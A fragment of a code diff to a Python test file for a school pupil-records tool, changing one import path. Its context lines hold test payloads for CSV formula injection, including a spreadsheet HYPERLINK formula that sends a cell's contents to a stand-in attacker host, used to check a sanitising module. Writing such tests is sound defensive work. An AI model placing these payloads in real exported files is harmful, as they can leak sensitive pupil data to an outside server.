@@ -23,7 +23,7 @@ from records_fixtures import add_pupil
 from sendesk.cli.main import main as cli_main
 from sendesk.errors import ValidationError
 from sendesk.records import apdr, audit_log, census, csv_safe, provision_map, pupil_list
-from sendesk.store import users
+from sendesk.services import users
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3",
